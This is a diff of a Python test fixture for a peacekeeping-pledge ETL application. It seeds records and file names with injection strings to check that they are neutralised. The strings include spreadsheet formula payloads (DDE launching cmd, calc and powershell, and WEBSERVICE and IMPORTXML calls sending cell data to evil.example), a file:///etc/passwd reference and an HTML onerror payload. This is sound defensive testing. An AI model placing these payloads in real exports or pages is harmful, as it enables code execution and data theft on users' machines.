@@ -2,6 +2,9 @@
 
 import re
 
+from etl.records import calls, decisions, figure_notes, holds, saved_views
+from tests.support import etl_fixtures, pledge_forms
+
 _CALLS = (
     "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', 'WEBSERVICE("http://evil.example/"&A1)', 'IMPORTXML("http://evil.example","//a")',
     "SUM(1)", 'DDE("cmd","/C calc","x")', "'file:///etc/passwd'#$A.1", 'IMAGE("http://evil.example/p.png")', "1*cmd|'/C powershell'!A1",
@@ -40,3 +43,34 @@ def is_run(text: object) -> bool:
     """Whether a spreadsheet that opens this cell of a file of text would run it: a sign first, however it is led in."""
     letters = re.sub(r"^[\s\u200b\ufeff\x00-\x20]+", "", str(text))
     return letters.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
+
+
+SENTENCE = "One quick reaction force company for MINUSCA by June 2026"
+UNIT = ("Fiji", "qrf_company", "military", "150", "Level 2", "2026-05-01", "available")
+UNIT_HEADINGS = ("pledge_id", "state", "capability", "component", "strength", "level", "date_accepted", "status")
+
+
+def site(folder, monkeypatch):
+    """A site whose files and records say these texts wherever a person may write one; the id of its first pledge."""
+    monkeypatch.setenv("LEDGER_AUDIENCE", "restricted")
+    made = etl_fixtures.Site(folder, monkeypatch)
+    pledge_forms.know_states(made.data, "QMB")
+    said = [["Member State QMB", "Berlin 2025", "Uniformed capabilities", f"{SENTENCE} {text}"] for text in SCRIPTS]
+    heads = ("Member State", "Ministerial", "Category", "Pledge description")
+    made.drop("<img src=x onerror=window.evil=1>.csv", etl_fixtures.csv_text(said, heads), "pledges")
+    units = [[f"U{place} {text}", *UNIT] for place, text in enumerate(SCRIPTS)]
+    made.drop("[evil](http:evil) 2026-06-30.csv", etl_fixtures.csv_text(units, UNIT_HEADINGS), "pcrs_roster")
+    made.build()
+    waiting = list(pledge_forms.waiting(made).values())
+    for place, candidate in enumerate(waiting[:12]):
+        by, reason = SCRIPTS[place][:80], SCRIPTS[-place - 1]
+        decisions.decide(candidate, "confirm", by, reason=reason, new={"condition": reason})
+        decisions.decide(candidate, "status", by, base=2 * place + 1, new=pledge_forms.ANNOUNCED | {"source": reason})
+    made.build()
+    for place, text in enumerate(SCRIPTS[:26]):
+        by = SCRIPTS[-place - 1][:80]
+        figure_notes.write("state", "QMB", by, text, "open")
+        calls.note("QMB", by, {"assigned_to": by, "called_on": "2026-02-14", "answer": text, "next_step": text}, base=place, audience="restricted", shared=True)  # fmt: skip
+        saved_views.save("", text[:80], "country", {"iso3": "QMB"}, False)
+    holds.hold("FRA", SCRIPTS[0][:80], SCRIPTS[17], base=0)
+    return made, waiting
